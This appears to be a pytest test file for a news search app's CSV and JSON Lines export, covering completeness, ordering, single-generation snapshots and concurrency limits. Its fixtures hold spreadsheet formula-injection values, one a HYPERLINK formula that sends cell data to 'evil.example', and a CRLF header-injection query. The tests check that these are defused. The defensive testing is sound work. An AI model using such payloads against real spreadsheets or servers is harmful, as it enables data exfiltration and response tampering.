"""All of a result as a file: whole, of one generation, and safe to open."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from http.client import HTTPConnection, IncompleteRead
from pathlib import Path
from threading import Thread

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app import create_app
from search import open_engine
from search.article import Article, from_json, to_json
from search.engine import Page, Search, SearchRefused, Sort
from search.parse import parse
from tests.conftest import Filled, fill
from tests.web_server import ARTICLES, FERRY, SUMMIT, VETO, index_of, serving
from web import export
from web.engine import EXTENSION
from web.export import AT_ONCE, FIELDS

FORMULA = Article(
    id="-1",
    title='=HYPERLINK("https://evil.example/"&A1)',
    summary=("@SUM(1+1)", "plain"),
    body='+1 is no formula to us; "quotes", commas;\r\nand lines.',
    author=("Ada", "Bo"),
    publisher="\tWire",
    place="Köln = Cologne",
    language="en",
)
MANY = tuple(
    Article(id=f"n{number:03}", title=f"Ferry {number}", body="A ferry. " * (number % 9 + 1)) for number in range(70)
)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    app = create_app(index_of(tmp_path_factory.mktemp("index"), (*ARTICLES, FORMULA)))
    yield app
    app.extensions[EXTENSION].close()


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def lines(client: FlaskClient, query_string: str) -> list[dict[str, object]]:
    response = client.get(f"/export.jsonl?{query_string}")
    assert (response.status_code, response.mimetype) == (200, "application/jsonl")
    found = [json.loads(line) for line in response.data.decode().splitlines()]
    assert response.headers["X-Total-Count"] == str(len(found))
    return found


def rows(client: FlaskClient, query_string: str) -> list[dict[str, str]]:
    response = client.get(f"/export.csv?{query_string}")
    assert (response.status_code, response.content_type) == (200, "text/csv; charset=utf-8")
    return list(csv.DictReader(io.StringIO(response.data.decode(), newline="")))


def test_json_lines_are_the_articles_whole(client: FlaskClient) -> None:
    found = {line["id"]: line for line in lines(client, "")}
    assert found == {article.id: to_json(article) for article in (*ARTICLES, FORMULA)}
    assert list(found["veto"]) == list(to_json(VETO))
    assert from_json(found["veto"]) == VETO


@pytest.mark.parametrize("sort", Sort)
@pytest.mark.parametrize(
    "query_string", ["q=syria", "q=syria&place=Kiel", "from=2012&to=2012", "q=agenda+lighthouse", "q=nothing"]
)
def test_files_have_what_pages_have_in_their_order(client: FlaskClient, query_string: str, sort: Sort) -> None:
    whole = f"{query_string}&sort={sort}"
    shown = [hit["id"] for hit in json.loads(client.get(f"/api/search?{whole}").data)["hits"]]
    assert [line["id"] for line in lines(client, whole)] == shown
    assert [row["id"] for row in rows(client, f"{whole}&page=3&size=1")] == shown


def test_a_table_has_the_names_of_the_contract_and_every_value(client: FlaskClient) -> None:
    by_id = {row["id"]: row for row in rows(client, "q=syria")}
    row = by_id["veto"]
    assert tuple(row) == FIELDS == tuple(to_json(VETO))
    assert (row["title"], row["body"], row["author"]) == (VETO.title, VETO.body, "Ada Byline; Bo Writer")
    assert (row["summary"], row["captions"]) == ("\n".join(VETO.summary), VETO.captions[0])
    assert (row["published"], row["words"]) == ("2012-02-04T23:30:00-05:00", str(VETO.words))
    assert (by_id["ferry"]["author"], by_id["ferry"]["url"]) == ("", "")


def test_no_cell_is_a_formula_and_none_is_torn(client: FlaskClient) -> None:
    [row] = rows(client, "q=evil")
    assert row["id"] == "'-1"
    assert row["title"] == f"'{FORMULA.title}"
    assert row["summary"] == "'@SUM(1+1)\nplain"
    assert row["body"] == f"'{FORMULA.body}"
    assert (row["publisher"], row["place"]) == ("'\tWire", FORMULA.place)
    [line] = lines(client, "q=evil")  # which is for programs
    assert line["title"] == FORMULA.title


@pytest.mark.parametrize("sign", "=+-@\t\r\n＝＋－＠")
def test_every_sign_that_begins_a_formula_is_guarded(sign: str) -> None:
    assert export.cell("title", f"{sign}1") == f"'{sign}1"
    assert export.cell("title", f"1{sign}") == f"1{sign}"
    assert export.cell("author", [f"{sign}1", "x"]) == f"'{sign}1; x"


def test_numbers_and_what_is_missing_are_no_text() -> None:
    assert (export.cell("words", 12), export.cell("title", None), export.cell("author", [])) == ("12", "", "")


def test_a_table_has_a_byte_order_mark_only_where_one_is_asked_for(client: FlaskClient) -> None:
    for query_string, marked in (("", False), ("bom=", False), ("bom=off", False), ("bom=on", True)):
        response = client.get(f"/export.csv?q=syria&{query_string}")
        assert response.data.startswith(b"\xef\xbb\xbf") is marked
        assert response.data.removeprefix(b"\xef\xbb\xbf").startswith(b"id,title,")
    for query_string in ("bom=yes", "bom=on&bom=on"):
        response = client.get(f"/export.csv?{query_string}")
        assert response.status_code == 400
        assert "bom is on or off" in response.text


@pytest.mark.parametrize(
    ("address", "filename"),
    [
        ("/export.csv", "dateline-articles-1.csv"),
        ("/export.jsonl?q=Syria+%22no+fly%22%0D%0AX-Evil:1", "dateline-syria-no-fly-x-evil-1-1.jsonl"),
        ("/export.csv?q=%E4%B8%AD%E5%9B%BD", "dateline-articles-1.csv"),
        (f"/export.csv?q={'long+' * 30}", f"dateline-{'long-' * 8}1.csv"),
    ],
)
def test_a_file_is_named_after_its_search_and_generation(client: FlaskClient, address: str, filename: str) -> None:
    assert client.get(address).headers["Content-Disposition"] == f'attachment; filename="{filename}"'


@pytest.mark.parametrize("query_string", ["q=a*", "size=101", "since=2", "cursor=x&page=2"])
@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_a_bad_search_is_no_file(client: FlaskClient, suffix: str, query_string: str) -> None:
    assert client.get(f"/export.{suffix}?{query_string}").status_code == 400


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_the_head_of_a_file_can_be_asked_for(client: FlaskClient, suffix: str) -> None:
    for _ in range(AT_ONCE + 1):  # none of which keeps others from theirs
        head = client.head(f"/export.{suffix}?q=syria", buffered=True)
        assert (head.status_code, head.data, head.headers["X-Total-Count"]) == (200, b"", "3")


def test_files_beyond_those_that_are_being_sent_are_put_off(client: FlaskClient) -> None:
    sent = [client.get("/export.csv", buffered=False) for _ in range(AT_ONCE)]
    put_off = client.get("/export.csv")
    assert (put_off.status_code, put_off.headers["Retry-After"]) == (503, "5")
    assert client.get("/search").status_code == 200
    sent[0].close()
    assert client.get("/export.csv").status_code == 200
    for response in sent:
        response.close()


def test_a_page_of_results_leads_to_its_files(client: FlaskClient) -> None:
    page = client.get("/search?q=syria&place=Kiel&size=1").text
    for suffix in ("csv", "jsonl"):
        assert f'href="/export.{suffix}?q=syria&amp;place=Kiel"' in page
    assert "/export." not in client.get("/search?q=nothing").text


# What an engine promises


def test_an_export_is_of_one_generation_whatever_happens_meanwhile(
    filled: Filled, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("search.whoosh_index.EXPORT_WINDOW", 8)
    monkeypatch.setattr("search.whoosh_index.EXPORT_BATCH", 3)
    engine = filled(MANY)
    search = Search(parse("ferry"), sort=Sort.RELEVANCE, size=100)
    expected = [hit.article.id for hit in engine.search(search).hits]
    export = engine.export(search)
    begun = [next(export.articles).id for _ in range(10)]
    fill(engine, [replace(MANY[0], title="Ferry", body="Changed")], rebuild=True)
    assert engine.count() == 1
    rest = list(export.articles)
    assert (export.total, export.generation) == (70, 1)
    assert begun + [article.id for article in rest] == expected
    assert all(article.title and article.title.startswith("Ferry ") for article in rest)
    assert [article.body for article in engine.export(search).articles] == ["Changed"]


def test_a_slow_reader_keeps_nobody_waiting(filled: Filled) -> None:
    engine = filled(MANY)
    export = engine.export(Search())
    next(export.articles)
    found: list[Page] = []
    other = Thread(target=lambda: found.append(engine.search(Search())))
    other.start()
    other.join(30)
    assert found
    assert found[0].total == len(MANY)


def test_an_index_that_was_replaced_is_let_go_with_its_last_reader(tmp_path: Path) -> None:
    def mapped() -> set[str]:
        text = Path("/proc/self/maps").read_text()
        return {line.split()[5] for line in text.splitlines() if str(tmp_path) in line}

    if not Path("/proc/self/maps").exists():
        pytest.skip("needs Linux")
    with open_engine(f"whoosh:{tmp_path}/index") as engine:
        fill(engine, MANY)
        unread, read = engine.export(Search()), engine.export(Search())
        before = mapped()
        assert len(before) == 2
        next(read.articles)
        fill(engine, MANY[:1], rebuild=True)
        engine.search(Search())
        assert before < mapped()
        del unread
        assert len(list(read.articles)) == len(MANY) - 1
        del read
        assert not before & mapped()


def test_page_size_and_cursor_do_not_matter_to_an_export_and_since_does(filled: Filled) -> None:
    engine = filled(MANY)
    assert engine.export(Search(page=3, size=2)).total == len(MANY)
    assert len(list(engine.export(Search(cursor="x")).articles)) == len(MANY)
    assert list(engine.export(Search(since=1)).articles) == []
    with pytest.raises(SearchRefused):
        engine.export(Search(since=2))


def test_a_file_that_broke_off_does_not_look_whole(tmp_path: Path) -> None:
    long = [replace(SUMMIT, id=f"{n}", body=" ".join(f"word{n * m}" for m in range(300))) for n in range(400)]
    url = index_of(tmp_path, [*long, FERRY])
    [documents] = tmp_path.rglob("*.documents")
    data = bytearray(documents.read_bytes())
    place = data.find(b"\x28\xb5\x2f\xfd", len(data) // 4)  # where zstd begins a block
    data[place : place + 64] = bytes(64)
    documents.write_bytes(data)
    with serving(url) as port:
        connection = HTTPConnection("127.0.0.1", port, timeout=30)
        connection.request("GET", "/export.jsonl?sort=oldest")
        response = connection.getresponse()
        assert response.status == 200
        with pytest.raises(IncompleteRead):
            response.read()
        connection.close()
